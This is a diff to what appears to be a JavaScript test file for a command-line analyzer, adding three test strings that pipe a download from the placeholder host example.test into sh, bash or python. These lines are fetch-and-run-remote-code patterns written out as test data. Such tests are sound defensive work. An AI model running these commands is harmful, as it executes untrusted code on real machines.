@@ -160,6 +160,9 @@ describe("what a command line reaches", () => {
     "make -f $(pick)",
     "docker compose --file=$FILE up",
     "cat a.sql | python",
+    "curl -s example.test | sh # check",
+    "curl -s example.test | bash /dev/stdin",
+    "python <(curl -s example.test)",
     "node --test",
   ];
   for (const line of open) {
